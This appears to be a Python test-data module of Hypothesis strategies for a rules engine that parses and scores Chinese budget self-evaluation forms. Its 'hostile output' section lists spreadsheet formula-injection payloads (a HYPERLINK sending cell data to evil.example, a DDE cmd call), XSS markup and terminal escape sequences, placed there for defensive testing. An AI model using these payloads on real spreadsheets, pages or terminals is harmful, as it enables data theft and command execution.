"""All hypothesis strategies of the test suite, in one module."""

from __future__ import annotations

from decimal import Decimal

from hypothesis import strategies as _st

from rules_engine.model import BudgetRow, Form, IndicatorLine, Position
from rules_engine.policy import model as pm
from rules_engine.values import Role

# --- target language: cell texts (tests/test_targets_property.py) ---------------------------

# Pieces real target cells are made of, in several spellings, so random joins reach deep rules.
TARGET_PIECES = (
    *"0123456789０１２３４５６７８９.．%％-－~～—±+, ，。/、*",
    *("≥", "≧", ">=", "＞", ">", "≤", "<=", "<", "=", "﹦", "═", "＝"),
    *("不低于", "不少于", "至少", "以上", "及以上", "不超过", "以内", "以下", "及其以下"),
    *("小于", "低于", "大于", "超过", "至", "到", "每", "全年", "完成", "百分比", "萬元"),
    *("次", "家", "个", "人", "人次", "万元", "元", "亿元", "亩", "天", "工作日", "万平方米"),
    *("年", "月", "日", "底", "前", "份", "O", "合规", "正增长", " ", "\t", "\n"),
)


def target_texts() -> _st.SearchStrategy[str]:
    """Texts a target or actual cell might hold: joined real pieces, or any text at all."""
    joined = _st.lists(_st.sampled_from(TARGET_PIECES), max_size=12).map("".join)
    return _st.one_of(joined, _st.text(max_size=30))


def roles() -> _st.SearchStrategy[Role]:
    """The two ways a cell is read."""
    both: tuple[Role, ...] = ("target", "actual")
    return _st.sampled_from(both)


# --- target language: the fast path's shapes and their near misses (tests/test_target_fast.py)

# Spellings of the pieces of the common shapes, with pieces that make a text just miss a shape:
# a sign, a leading zero, a month-like number, a unit the grammar does not list, a remark.
FAST_OPERATORS = (
    *("", "", "", "≥", ">=", ">", "＞", "<", "<=", "≤", "=", "﹦", "＝"),
    *("不低于", "不少于", "至少", "不超过", "最多", "大于", "高于", "小于", "低于", "等于"),
    *("-", "+", "--", "≥-", "全年", "合格率≥", "每月", "约"),
)
FAST_NUMBERS = (
    *("0", "1", "5", "12", "95", "100", "292", "2100", "38508", "0.5", "97.30", "1346.0088"),
    *("000", "007", "05", ".5", "5.", "2023.07", "2021.12", "1999.13", "2021", "1,000", "１２"),
)
FAST_UNITS = (
    *("", "", "%", "％", "个", "次", "人次", "万元", "万", "万亩", "个工作日", "天", "分", "‰"),
    *("万粒", "村", "TB", "$", "年", "月", "日", "个月", "月份", "元/人", "O", "百分比"),
)
FAST_AFTERS = ("", "", "", "以上", "及以上", "以下", "以内", "内", "之内", "覆盖", "左右", "。")
FAST_SEPARATORS = ("-", "~", "至", "到", "－", "～", "—", "--", "至少")
FAST_WORDS = (
    *("合规", "正增长", "按时完成", "年底前完成", "年内", "年底前完善制度", "一", "—", "/"),
    *("≥", "以上", "O型", "第O份", "满意", "", " ", "无"),
)


def fast_shape_texts() -> _st.SearchStrategy[str]:
    """Compares, ranges and words as cells print them, and texts that nearly have those shapes."""
    pick = _st.sampled_from
    compare = _st.tuples(
        pick(FAST_OPERATORS), pick(FAST_NUMBERS), pick(FAST_UNITS), pick(FAST_AFTERS)
    ).map("".join)
    low_unit = pick(("", "", "", "次", "%", "人"))
    ranged = _st.tuples(
        pick(FAST_NUMBERS), low_unit, pick(FAST_SEPARATORS), pick(FAST_NUMBERS), pick(FAST_UNITS)
    ).map("".join)
    return _st.one_of(compare, ranged, pick(FAST_WORDS), target_texts())


# --- engine: indicator lines and forms (tests/test_engine_properties.py) --------------------

_UNITS = ("", "个", "次", "家", "万元", "%")
_WORDS = ("合规", "完成", "满意", "基本完成", "未完成", "正增长", "健全", "说不清")


def amounts(low: int = 0, high: int = 1000) -> _st.SearchStrategy[Decimal]:
    """Non-negative decimals with up to two places, as forms print them."""
    return _st.integers(low * 100, high * 100).map(lambda n: Decimal(n).scaleb(-2).normalize())


def weights() -> _st.SearchStrategy[Decimal]:
    """Line weights as forms print them (whole or half points)."""
    return _st.integers(1, 40).map(lambda n: Decimal(n) / 2)


def target_cells() -> _st.SearchStrategy[str]:
    """Target cells of every shape the engine dispatches on: ≥, ≤, =, ranges and words."""
    unit = _st.sampled_from(_UNITS)
    compare = _st.tuples(_st.sampled_from(("≥", "≤", "=", "")), amounts(0, 500), unit).map(
        lambda t: f"{t[0]}{_plain(t[1])}{t[2]}"
    )
    ranged = _st.tuples(amounts(0, 300), amounts(0, 200), unit).map(
        lambda t: f"{_plain(t[0])}-{_plain(t[0] + t[1] + 1)}{t[2]}"
    )
    return _st.one_of(compare, ranged, _st.sampled_from(_WORDS))


def actual_cells() -> _st.SearchStrategy[str | None]:
    """Actual cells: numbers (sometimes with a unit), words, or nothing."""
    number = _st.tuples(amounts(0, 1200), _st.sampled_from(("", "", "%", "个"))).map(
        lambda t: f"{_plain(t[0])}{t[1]}"
    )
    return _st.one_of(number, _st.sampled_from(_WORDS), _st.none())


def indicator_lines(
    targets: _st.SearchStrategy[str] | None = None,
) -> _st.SearchStrategy[IndicatorLine]:
    """One indicator line with a readable target, any actual, a weight and a self-score."""
    return _st.builds(
        _line,
        _st.tuples(
            _st.sampled_from(("产出指标", "效益指标", "满意度指标")),
            _st.sampled_from(("数量指标", "质量指标", "成本指标", "时效指标")),
        ),
        targets if targets is not None else target_cells(),
        actual_cells(),
        weights(),
        _st.tuples(_st.one_of(_st.none(), amounts(0, 20)), _st.sampled_from((None, "原因"))),
    )


def forms(max_lines: int = 8) -> _st.SearchStrategy[Form]:
    """A self-evaluation form: a few lines and a budget block."""
    budget = _st.tuples(amounts(0, 200), amounts(0, 250)).map(
        lambda t: [BudgetRow(name="年度资金总额", adjusted=_plain(t[0]), executed=_plain(t[1]))]
    )
    return _st.builds(
        lambda lines, rows: Form(kind="project-self-evaluation", indicators=lines, budget=rows),
        _st.lists(indicator_lines(), min_size=1, max_size=max_lines),
        budget,
    )


def _line(
    path: tuple[str, str],
    target: str,
    actual: str | None,
    weight: Decimal,
    self_part: tuple[Decimal | None, str | None],
) -> IndicatorLine:
    level1, level2 = path
    score, note = self_part
    return IndicatorLine(
        level1=level1,
        level2=level2,
        name="指标",
        target=target,
        actual=actual,
        weight=_plain(weight),
        score=None if score is None else _plain(score),
        note=note,
        source=Position(row=1, col=1),
    )


def _plain(value: Decimal) -> str:
    return format(value.normalize(), "f") if value != value.to_integral_value() else str(int(value))


# --- form builder: cell grids (tests/test_builder.py) ---------------------------------------

# Cells a form's grid is made of: header names, categories, names, values, junk.
GRID_WORDS = (
    *("一级指标", "二级指标", "三级指标", "年度指标值", "实际完成值", "分值", "得分", "指标值"),
    *("指标性质", "度量单位", "偏差原因", "总分", "合计", "项目名称", "年初预算数", "执行率"),
    *("产出指标", "效益指标", "满意度指标", "成本指标", "数量指标", "质量指标", "(50分)"),
    *("指标1：培训次数", "指标2：", "……", "1-2次", "≥95%", "=", "100", "%", "10", "8", ""),
    *("—", "/", "合规", "年度资金总额", "其中：当年财政拨款", "说明", "反映情况", "定量"),
)


def grids() -> _st.SearchStrategy[list[list[str]]]:
    """Rows of cell texts: mostly form words, sometimes any text at all."""
    cell = _st.one_of(_st.sampled_from(GRID_WORDS), _st.text(max_size=8))
    return _st.lists(_st.lists(cell, max_size=9), max_size=12)


# Separators text layouts put between cells: tabs, pipes, paragraphs, spaces, nothing at all.
LAYOUT_SEPARATORS = ("\t", " | ", " |\n", "|\n", "||\n", "\n\n", "\n", " ", "", "| ")


def layout_texts() -> _st.SearchStrategy[str]:
    """Texts in any layout: form words joined by layout separators, or any text at all."""
    piece = _st.one_of(
        _st.sampled_from(GRID_WORDS), _st.sampled_from(LAYOUT_SEPARATORS), _st.text(max_size=6)
    )
    joined = _st.lists(piece, max_size=60).map("".join)
    return _st.one_of(joined, _st.text(max_size=200))


# --- hostile output: texts that would run or hide something (tests/test_hostile_output.py) ---

# Starts that make a spreadsheet read a cell as a formula, payloads that would do harm, and the
# markup a Markdown or HTML page must not pass through.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", " =", "'=")
FORMULA_BODIES = (
    'HYPERLINK("http://evil.example/?"&A1,"点我")',
    "1+2",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    "2+3",
    "5",
    "1.5%",
    'IMPORTXML(CONCAT("http://x/",A1),"//a")',
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[点我](javascript:alert(1))",
    "![](http://evil.example/p.png)",
    "<a href='http://evil.example'>x</a>",
    "**粗**",
    "|",
    "`代码`",
)
# C0 and C1 controls, DEL, escape sequences a terminal obeys (OSC 52 clipboard, OSC 8 link, CSI).
CONTROLS = (
    *(chr(c) for c in range(32)),
    "\x7f",
    "\x85",
    "\x9b",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;http://evil.example\x1b\\链接\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
)


def formula_texts() -> _st.SearchStrategy[str]:
    """Texts that a spreadsheet would read as a formula, or that look like one."""
    return _st.builds(
        lambda start, body, tail: start + body + tail,
        _st.sampled_from(FORMULA_STARTS),
        _st.sampled_from(FORMULA_BODIES),
        _st.text(max_size=4),
    )


def control_texts() -> _st.SearchStrategy[str]:
    """Texts with control characters and terminal escape sequences among ordinary words."""
    piece = _st.one_of(_st.sampled_from(CONTROLS), _st.sampled_from(GRID_WORDS))
    return _st.lists(piece, min_size=1, max_size=6).map("".join)


def hostile_texts() -> _st.SearchStrategy[str]:
    """Any of the above, markup, or any text at all."""
    return _st.one_of(
        formula_texts(), control_texts(), _st.sampled_from(MARKUP), _st.text(max_size=20)
    )


# --- hostile policies: limits, numbers, globs, files that are not policies --------------------
# (tests/test_policy_limits.py, tests/test_shadowing.py)

POLICY_HEAD = 'policy "测试" year 2020\nextends "national-2020"\n'
# Ways to nest an expression one level deeper (the `{}` is the inner expression).
NESTINGS = ("-{}", "({} + 1)", "min(1, {})", "(1 * {})", "abs({})", "(-{})")
CONDITION_NESTINGS = ("not {}", "({} and actual > 1)", "(actual > 2 or {})")
# Where a number goes in a policy: the `{}` is the literal.
NUMBER_PLACES = (
    "weights {{ 产出指标 {} 效益指标 30 满意度指标 10 total 100 }}",
    "tolerance {}",
    "rule 区间 {{ cap {} otherwise => weight }}",
    "rule 区间 {{ floor {} otherwise => weight }}",
    "rule 区间 {{ otherwise => weight * {} }}",
    "rule 区间 {{ otherwise => weight / {} }}",
    "grades {{ 优 >= {} 差 }}",
    "term 大增长 = > {}",
    "round half_up {}",
    "budget {{ weight {} otherwise => weight * rate }}",
    'flag 很大 "大" on line when actual > {}',
)
# Lines that open files which are not policies (made up: no real secret is kept here).
NOT_POLICY_LINES = (
    "root:$6$fake-salt$fake-hash:19000:0:99999:7:::",
    "PATH=/usr/bin:/bin",
    "[section]",
    "<?xml version='1.0'?>",
    '{"policy": 1}',
    "规则 正向",
    "-----BEGIN FAKE KEY-----",
)


def policy_numbers() -> _st.SearchStrategy[str]:
    """Number literals as a policy writes them: ordinary, long, tiny, with `%`."""
    digits = _st.text("0123456789", min_size=1, max_size=60)
    fraction = _st.one_of(_st.just(""), digits.map(lambda d: "." + d))
    percent = _st.sampled_from(("", "", "%"))
    return _st.builds(lambda i, f, p: i + f + p, digits, fraction, percent)


def deep_expressions() -> _st.SearchStrategy[str]:
    """A rule whose result nests one kind of bracket, sign or call many levels deep."""

    def nest(form: str, depth: int) -> str:
        expr = "weight"
        for _ in range(depth):
            expr = form.format(expr)
        return f"rule 区间 {{ otherwise => {expr} }}"

    return _st.builds(nest, _st.sampled_from(NESTINGS), _st.integers(1, 400))


def deep_conditions() -> _st.SearchStrategy[str]:
    """A rule whose condition nests `not`, `and` or `or` many levels deep."""

    def nest(form: str, depth: int) -> str:
        cond = "actual > 0"
        for _ in range(depth):
            cond = form.format(cond)
        return f"rule 区间 {{ when {cond} => full otherwise => 0 }}"

    return _st.builds(nest, _st.sampled_from(CONDITION_NESTINGS), _st.integers(1, 300))


def long_expressions() -> _st.SearchStrategy[str]:
    """A sum, product or conjunction of many terms."""
    return _st.builds(
        lambda op, n: f"rule 区间 {{ otherwise => {op.join(['weight'] * n)} }}",
        _st.sampled_from((" + ", " * ", " - ", " / ")),
        _st.integers(1, 600),
    )


def number_statements() -> _st.SearchStrategy[str]:
    """A statement holding one number literal, of any size."""
    return _st.builds(
        lambda place, n: place.format(n), _st.sampled_from(NUMBER_PLACES), policy_numbers()
    )


def glob_runs() -> _st.SearchStrategy[str]:
    """`apply` lines whose category patterns are runs of `*` and `?` around a few characters."""
    piece = _st.sampled_from(("*", "*", "**", "?", "产", "出", "指标", "x"))
    glob = _st.lists(piece, min_size=1, max_size=80).map("".join)
    at = _st.sampled_from(("apply {} -> 正向", "apply */{} -> 正向", "apply */*/{} -> 正向"))
    return _st.builds(lambda line, g: line.format(g), at, glob)


def hostile_policies() -> _st.SearchStrategy[str]:
    """Policy texts built to break a compiler: deep, long, huge numbers, glob runs."""
    body = _st.one_of(
        deep_expressions(),
        deep_conditions(),
        long_expressions(),
        number_statements(),
        glob_runs(),
    )
    return _st.lists(body, min_size=1, max_size=3).map(lambda b: POLICY_HEAD + "\n".join(b) + "\n")


def not_policies() -> _st.SearchStrategy[bytes]:
    """File contents that are not policies: binary junk, or text opening with a non-policy line."""
    text = _st.builds(
        lambda first, rest: (first + "\n" + rest).encode("utf-8", "surrogatepass"),
        _st.sampled_from(NOT_POLICY_LINES),
        _st.text(max_size=40),
    )
    return _st.one_of(_st.binary(min_size=1, max_size=200), text)


# Category path segments for dispatch lists: names, globs, spellings that normalise alike.
DISPATCH_SEGMENTS = ("*", "*", "产出指标", "成本指标", "产出*", "*指标", "成本?标", "数量指标",
                     " 产出指标", "产出*指标", "?")  # fmt: skip
DISPATCH_SHAPES = ("term", "range", "compare", ">=", "<=", "=", "number", "missing")


# Indicator names for `name` selectors: spellings that compare alike, and globs.
DISPATCH_NAMES = ("三公经费控制率", "指标1：三公经费控制率", "三公经费控制率（%）", "预算调整率",
                  "重点支出*", "预算?整率")  # fmt: skip


def _dispatch_selector() -> _st.SearchStrategy[pm.PathIs | pm.NameIs | pm.CondIs]:
    path = _st.lists(_st.sampled_from(DISPATCH_SEGMENTS), min_size=1, max_size=3).map(
        lambda segments: pm.PathPattern(segments=tuple(segments))
    )
    paths = _st.lists(path, min_size=1, max_size=3).map(lambda ps: pm.PathIs(patterns=tuple(ps)))
    shape = _st.builds(
        lambda subject, shape: pm.CondIs(cond=pm.ShapeIs(subject=subject, shape=shape)),
        _st.sampled_from(("target", "actual")),
        _st.sampled_from(DISPATCH_SHAPES),
    )
    names = _st.lists(_st.sampled_from(DISPATCH_NAMES), min_size=1, max_size=3).map(
        lambda ns: pm.NameIs(names=tuple(ns))
    )
    return _st.one_of(paths, shape, names)


def dispatch_lists() -> _st.SearchStrategy[list[pm.Apply]]:
    """Lists of `apply` lines (compiled) made of a few paths, globs and target shapes, so some
    lines cover others; a catch-all somewhere now and then."""
    selectors = _st.lists(_dispatch_selector(), min_size=1, max_size=2)

    def applies(
        lists: list[list[pm.PathIs | pm.NameIs | pm.CondIs]], catch_all: int
    ) -> list[pm.Apply]:
        if 0 <= catch_all <= len(lists):
            lists = [*lists[:catch_all], [], *lists[catch_all:]]
        return [
            pm.Apply(
                selectors=tuple(s),
                rule="正向",
                loc=pm.Loc(file="x.policy", line=n, col=1),
                origin="x",
            )
            for n, s in enumerate(lists, start=1)
        ]

    return _st.builds(applies, _st.lists(selectors, max_size=25), _st.integers(-40, 25))


def glob_pairs() -> _st.SearchStrategy[tuple[str, str]]:
    """A glob and a text over a tiny alphabet, so that matches and near misses are common."""
    return _st.tuples(_st.text("ab*?", max_size=9), _st.text("ab", max_size=10))


# --- hostile input: numbers at the edges of the engine's bounds (tests/test_bounded.py) -------

EDGE_NUMBERS = (
    *("0", "-0", "1", "-5", "--5", "+-5", "- -5", "－－5", "999999999999", "1000000000000"),
    *("0.000001", "0.0000001", "0." + "0" * 40 + "1", "1" * 15, "1" * 16, "1" * 30, "9" * 35),
    *("1e400", "1E-400", "NaN", "sNaN", "Infinity", "-Infinity", "1,000", "1,0000", ".5", "5."),
    *("999999999.999999", "123456789012.3456", "١٢٣", "１２３", "²", "1_000", "0x10"),
)


def edge_numbers() -> _st.SearchStrategy[str]:
    """Numbers as cells print them at and past the edges: many digits, many places, exponents,
    doubled signs, NaN and infinities, other scripts' digits, with units and percent signs."""
    digits = _st.integers(min_value=0, max_value=10**40).map(str)
    places = _st.tuples(digits, digits).map(lambda p: f"{p[0]}.{p[1]}")
    core = _st.one_of(_st.sampled_from(EDGE_NUMBERS), digits, places)
    return _st.builds(
        lambda sign, number, unit: sign + number + unit,
        _st.sampled_from(("", "", "-", "+", "--", "≥", "≤")),
        core,
        _st.sampled_from(("", "", "%", "分", "万元", "元", "次")),
    )


# --- hostile input: whole form files (tests/test_hostile_fuzz.py) ---------------------------


def hostile_cells() -> _st.SearchStrategy[str | None]:
    """What a hostile or broken form puts in a cell: numbers at the edges, control characters,
    formula-like text, markup, huge cells, target-like text, or nothing."""
    huge = _st.builds(
        lambda piece, times: piece * times, _st.text(max_size=4), _st.integers(1, 9000)
    )
    return _st.one_of(
        _st.none(),
        edge_numbers(),
        control_texts(),
        formula_texts(),
        _st.sampled_from(MARKUP),
        target_texts(),
        huge,
    )


_CELL_FIELDS = ("level1", "level2", "name", "target", "actual", "weight", "score", "note")
_BUDGET_FIELDS = ("name", "initial", "adjusted", "executed", "weight", "rate", "score")


def _json_form(lines: list[dict[str, str | None]], budget: dict[str, str | None]) -> bytes:
    import json

    form = {"kind": "project-self-evaluation", "year": 2021, "indicators": lines}
    form["budget"] = [budget]
    return json.dumps({"forms": [form]}, ensure_ascii=False).encode("utf-8")


def _tsv_form(lines: list[dict[str, str | None]], _budget: dict[str, str | None]) -> bytes:
    header = "一级指标\t二级指标\t三级指标\t年度指标值\t实际完成值\t分值\t得分\t偏差原因\n"
    rows = ["\t".join(line.get(f) or "" for f in _CELL_FIELDS) for line in lines]
    return ("2021年项目支出绩效自评表\n" + header + "\n".join(rows) + "\n").encode("utf-8")


def _csv_form(lines: list[dict[str, str | None]], _budget: dict[str, str | None]) -> bytes:
    import csv
    import io

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(_CELL_FIELDS)
    for line in lines:
        writer.writerow([line.get(f) or "" for f in _CELL_FIELDS])
    return out.getvalue().encode("utf-8")


def hostile_form_files() -> _st.SearchStrategy[tuple[str, bytes]]:
    """A form file (suffix, bytes) built from hostile cells, as JSON, tab-separated text or CSV,
    and sometimes its bytes broken: cut short, spoilt in the middle or in another encoding."""
    line = _st.fixed_dictionaries({f: hostile_cells() for f in _CELL_FIELDS})
    budget = _st.fixed_dictionaries({f: hostile_cells() for f in _BUDGET_FIELDS})
    kinds = _st.sampled_from(((".json", _json_form), (".txt", _tsv_form), (".csv", _csv_form)))
    files = _st.builds(
        lambda kind, lines, row: (kind[0], kind[1](lines, row)),
        kinds,
        _st.lists(line, min_size=1, max_size=4),
        budget,
    )
    return _st.builds(_break, files, _st.sampled_from(_BREAKS), _st.integers(0, 1 << 16))


_BREAKS = ("none", "none", "cut", "spoil", "utf-16", "gb18030")


def _break(file: tuple[str, bytes], how: str, at: int) -> tuple[str, bytes]:
    suffix, data = file
    where = at % (len(data) + 1)
    if how == "cut":
        return suffix, data[:where]
    if how == "spoil":
        return suffix, data[:where] + b"\xff\xfe\x00\x9b" + data[where:]
    if how == "utf-16":
        return suffix, b"\xff\xfe" + data.decode("utf-8").encode("utf-16-le")
    if how == "gb18030":
        return suffix, data.decode("utf-8").encode("gb18030", errors="replace")
    return suffix, data
